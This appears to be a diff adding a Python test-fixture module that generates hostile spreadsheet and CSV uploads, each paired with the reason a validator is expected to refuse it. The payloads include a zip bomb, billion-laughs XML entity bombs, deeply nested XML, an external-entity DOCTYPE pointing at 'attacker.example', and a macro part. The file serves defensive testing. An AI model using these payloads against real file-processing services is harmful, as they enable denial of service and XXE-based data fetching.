@@ -1,0 +1,62 @@
+"""Sheets that somebody made to keep the service busy, or to make it do what a sheet should not."""
+
+import io
+import zipfile
+from collections.abc import Callable, Mapping
+
+from openpyxl import Workbook
+
+
+def workbook(*rows: list[object]) -> bytes:
+    book, buffer = Workbook(), io.BytesIO()
+    for row in rows:
+        book.active.append(row)
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def hostile(rows: str, *, before: str = "", encoding: str = "utf-8", **more: bytes) -> bytes:
+    """A workbook whose first sheet has this XML between `<sheetData>` and its end."""
+    data = f"<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>"
+    sheet = f'<?xml version="1.0" encoding="{encoding}"?>{before}{data}'
+    changed = {"xl/worksheets/sheet1.xml": sheet.encode(encoding), **more}
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(workbook(["a"], ["b"]))) as good,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed,
+    ):
+        for name in good.namelist():
+            packed.writestr(name, changed.pop(name, None) or good.read(name))
+        for name, content in changed.items():
+            packed.writestr(name, content)
+    return buffer.getvalue()
+
+
+_LAUGHS = "<!DOCTYPE worksheet [<!ENTITY a0 'ha'>{}]>".format(
+    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
+)
+_ROW = '<row r="{}"><c r="A{}" t="inlineStr"><is><t>x</t></is></c></row>'
+_HEAD = _ROW.format(1, 1)
+
+HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "zip-bomb": ("too-large", lambda: hostile("", **{"xl/media/image1.png": b"0" * (64 * 1024 * 1024)})),
+    "many-parts": ("too-large", lambda: hostile("", **{f"xl/x{n}.xml": b"<x/>" for n in range(300)})),
+    "many-elements": ("too-large", lambda: hostile("", **{"xl/x.xml": b"<x>" + b"<y/>" * 2_000_000 + b"</x>"})),
+    "deep-xml": ("too-large", lambda: hostile("<a>" * 100_000)),
+    "million-empty-cells": ("too-many-cells", lambda: hostile(_HEAD + '<row r="2">' + "<c/>" * 1_000_000 + "</row>")),
+    "ten-thousand-columns": ("too-many-columns", lambda: workbook(["x"] * 10_000, ["1"])),
+    "last-row-of-all": ("too-many-rows", lambda: hostile(_HEAD + _ROW.format(1_048_576, 1_048_576))),
+    "xml-bomb": ("entities", lambda: hostile(_HEAD + '<row r="2"><c><v>&a9;</v></c></row>', before=_LAUGHS)),
+    "xml-bomb-utf-16": ("entities", lambda: hostile(_HEAD, before=_LAUGHS, encoding="utf-16")),
+    "external-entity": ("entities", lambda: hostile(_HEAD, before='<!DOCTYPE x SYSTEM "http://attacker.example/x">')),
+    "macros": ("formulas", lambda: hostile(_HEAD, **{"xl/vbaProject.bin": b"x"})),
+    "formula": ("formulas", lambda: hostile(_HEAD + '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>')),
+    "csv-columns": ("too-many-columns", lambda: b"a," * 10_000 + b"b\n1\n"),
+    "csv-one-huge-cell": ("not-a-sheet", lambda: b"a\n" + b"x" * 1_900_000),
+    "csv-commas": ("empty", lambda: b"a\n" + b"," * 2_000_000),
+    "csv-empty-rows": ("too-many-rows", lambda: b"a\n" + b"\n" * 2_000_000),
+}
+"""Why each is refused, and how it is made."""
